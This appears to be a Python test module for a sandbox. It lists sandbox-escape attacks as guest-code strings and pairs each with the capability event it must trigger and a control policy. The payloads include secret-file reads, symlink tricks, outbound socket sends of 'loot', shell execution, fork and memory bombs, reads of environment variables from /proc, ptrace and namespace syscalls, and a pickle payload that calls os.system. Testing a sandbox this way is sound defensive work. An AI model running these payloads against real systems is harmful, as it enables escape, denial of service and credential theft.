"""The attacks, as guest code. `S` is what the attacker knows of the scene; `syscall` is a raw system call.

Each names the capability whose event must exist afterwards, how success would show from outside, and, where a policy
can grant the operation, the policy under which the very same code works: that control proves that the attack is real.
"""

from __future__ import annotations

import resource
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from ...policy import Policy
    from .scene import Scene

    Change = Callable[[Policy, Scene], Policy]
    Evidence = Callable[[Scene, Any], str]

#: Without a control group of its own a sandbox's processes are sampled: for a moment there may be more than allowed.
_NOTICED = 64

RAW = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
def syscall(name, *arguments):
    result = _libc.syscall(S["nr"][name], *arguments)
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, f"{name}: {os.strerror(error)}")
    return result
"""


def _nothing(scene: Scene, sandbox: Any) -> str:
    return ""


def _same(policy: Policy, scene: Scene) -> Policy:
    return policy


@dataclass(frozen=True)
class Attack:
    """One attack. `capabilities`: one of them must be on an event; empty where there is nothing to refuse."""

    name: str
    source: str
    capabilities: tuple[str, ...]
    evidence: Evidence = _nothing
    policy: Change = _same
    control: Change | None = None
    control_options: dict[str, Any] = field(default_factory=dict)
    #: the error that must end it, by name; "" where the guest may go on
    ends: str = ""
    remark: str = ""


def _wrote(name: str) -> Evidence:
    def evidence(scene: Scene, sandbox: Any) -> str:
        found = [path for folder in (scene.outbox, scene.outside) for path in folder.glob(name)]
        return f"{found[0]} was written" if found else ""

    return evidence


def _connected(scene: Scene, sandbox: Any) -> str:
    count = scene.connections()
    return f"{count} connection came" if count else ""


def _datagram(scene: Scene, sandbox: Any) -> str:
    count = scene.packets()
    return f"{count} datagram came" if count else ""


def _signalled(scene: Scene, sandbox: Any) -> str:
    return f"{scene.signals} signal came" if scene.signals else ""


def _starved(scene: Scene, sandbox: Any) -> str:
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    return f"the supervisor may open {soft} files" if soft == 64 else ""


def _mapped(scene: Scene, sandbox: Any) -> str:
    try:
        with open(f"/proc/{sandbox.pid}/maps") as maps:
            loaded = scene.library.name in maps.read()
    except OSError:  # the cell is gone, or maps of another user's process are hidden
        return ""
    return f"{scene.library.name} is mapped in the cell" if loaded else ""


def _grown(field_name: str, allowed: float, unit: str) -> Evidence:
    def evidence(scene: Scene, sandbox: Any) -> str:
        used = getattr(sandbox.stats, field_name)
        return f"{used} {unit}, more than {allowed:g}" if used is not None and used > allowed else ""

    return evidence


_READ = "open(S['secret']).read()"
_READ_RAW = (
    RAW
    + """
descriptor = syscall("openat", -100, os.fsencode(S["secret"]), 0)
os.read(descriptor, 4096).decode()
"""
)
_LINK = """
import os
link = S["outbox"] + "/link"
os.symlink(S["secret"], link)
open(link).read()
"""
_WRITE = "open(S['outside'] + '/planted', 'w').write('owned')"
_CONNECT = "import socket\nsocket.create_connection(('127.0.0.1', S['tcp']), timeout=5).sendall(b'loot')"
_CONNECT_RAW = """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack("=H", 2) + struct.pack("!H4s8x", S["tcp"], bytes([127, 0, 0, 1]))
descriptor = libc.socket(2, 1, 0)
if descriptor < 0 or libc.connect(descriptor, address, len(address)) != 0:
    raise OSError(ctypes.get_errno(), "connect")
"""
_UDP = "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', S['udp']))"
_SHELL = """
import subprocess
subprocess.run(["/bin/sh", "-c", "echo owned > " + S["outbox"] + "/shell"], check=True)
"""
_LIBRARY = "import ctypes\nctypes.CDLL(S['library'])\nNone"
_FORK_BOMB = """
import os, time
while True:
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
"""
_MEMORY_BOMB = "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * (8 << 20)))"
_FLOOD = "while True:\n    print('x' * 4096)"
_LOOP = "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')"
_ENVIRONMENT = """
import os
loot = dict(os.environ)
for who in ("self", "1", str(os.getppid()), str(S["pid"])):
    try:
        loot[who] = open(f"/proc/{who}/environ", "rb").read().decode()
    except OSError as error:
        loot[who] = str(error)
str(loot)
"""
_DESCRIPTORS = """
import os
loot = b""
for descriptor in range(3, 1024):
    try:
        loot += os.pread(descriptor, 4096, 0)
    except OSError:
        pass
loot.decode("latin-1")
"""
_SIGNAL = "import os, signal\nos.kill(S['pid'], signal.SIGUSR1)"
_STARVE = "import resource\nresource.prlimit(S['pid'], resource.RLIMIT_NOFILE, (64, 64))"
_FORGE = """
import os, socket
for descriptor in range(3, 64):
    try:
        socket.socket(fileno=os.dup(descriptor)).send(b"\\xff\\xff\\xff\\x7f" * 16)
    except OSError:
        pass
"""
_POISON = """
import os
class Poison:
    def __reduce__(self):
        return os.system, ("touch " + S["outside"] + "/unpickled",)
    def __repr__(self):
        return "poison"
Poison()
"""


def _raw(name: str, *arguments: str) -> str:
    return f"{RAW}\nsyscall({', '.join([repr(name), *arguments])})\n"


ATTACKS = (
    Attack("read a secret", _READ, ("fs.read",), control=lambda p, s: p.allow_read(s.secret)),
    Attack("read it by a raw system call", _READ_RAW, ("fs.read",), control=lambda p, s: p.allow_read(s.secret)),
    Attack("read it through a symlink", _LINK, ("fs.read", "fs.create"), policy=lambda p, s: p.allow_read(s.outbox),
           control=lambda p, s: p.allow_read(s.secret)),
    Attack("write outside its directory", _WRITE, ("fs.create", "fs.write"), evidence=_wrote("planted"),
           control=lambda p, s: p.allow_write(s.outside)),
    Attack("connect out", _CONNECT, ("net.connect",), evidence=_connected,
           control=lambda p, s: p.allow_connect(f"127.0.0.1:{s.tcp}")),
    Attack("connect out by raw system calls", _CONNECT_RAW, ("net.socket", "net.connect"), evidence=_connected,
           control=lambda p, s: p.allow_connect(f"127.0.0.1:{s.tcp}")),
    Attack("send a datagram", _UDP, ("net.send", "net.socket"), evidence=_datagram,
           control=lambda p, s: p.allow_connect(f"127.0.0.1:{s.udp}")),
    Attack("run a shell", _SHELL, ("process.exec", "process.fork"), evidence=_wrote("shell"),
           control=lambda p, s: p.allow_exec("/bin/sh")),
    Attack("load a native library", _LIBRARY, ("import.native",), evidence=_mapped,
           control=lambda p, s: p.allow_native(str(s.library))),
    Attack("fork bomb", _FORK_BOMB, ("limit.processes",), evidence=_grown("processes", _NOTICED, "processes"),
           policy=lambda p, s: p.allow_fork().with_limits(processes=12), ends="ProcessesExceeded"),
    Attack("memory bomb", _MEMORY_BOMB, ("limit.memory",), evidence=_grown("memory_peak_bytes", 200 << 20, "bytes"),
           policy=lambda p, s: p.with_limits(memory="128MiB"), ends="MemoryExceeded"),
    Attack("output flood", _FLOOD, ("limit.output",), evidence=_grown("output_bytes", 2 << 20, "bytes"),
           policy=lambda p, s: p.with_limits(output="1MiB"), ends="OutputExceeded"),
    Attack("endless loop in C", _LOOP, ("limit.wall",), policy=lambda p, s: p.with_limits(wall="1s"),
           ends="TimeoutError"),
    Attack("steal the environment", _ENVIRONMENT, ("fs.read",), control=_same, control_options={"env": True}),
    Attack("use an inherited descriptor", _DESCRIPTORS, (), remark="none is inherited"),
    Attack("signal the supervisor", _SIGNAL, (), evidence=_signalled, remark="no such process in its namespace"),
    Attack("starve the supervisor of descriptors", _STARVE, ("process.trace",), evidence=_starved),
    Attack("trace the supervisor", _raw("ptrace", "16", "S['pid']", "0", "0"), ("process.trace",)),
    Attack("leave for a new namespace", RAW + "\nif _libc.unshare(0x10020000):\n    raise OSError(ctypes.get_errno(), "
           "'unshare')", ("kernel.namespace",)),
    Attack("mount a file system", _raw("mount", "b'none'", "b'/tmp'", "b'tmpfs'", "0", "None"), ("kernel.mount",)),
    Attack("set up io_uring", _raw("io_uring_setup", "8", "ctypes.create_string_buffer(120)"), ("kernel.io_uring",)),
    Attack("load a BPF program", _raw("bpf", "5", "ctypes.create_string_buffer(128)", "128"), ("kernel.bpf",)),
    Attack("plant a kernel key", _raw("add_key", "b'user'", "b'pyisolate'", "b'x'", "1", "-3"), ("kernel.keys",)),
    Attack("forge the supervisor's messages", _FORGE, (), ends="SandboxDied", remark="the cell is killed"),
    Attack("return a poisoned object", _POISON, (), evidence=_wrote("unpickled"), remark="only plain data returns"),
)  # fmt: skip
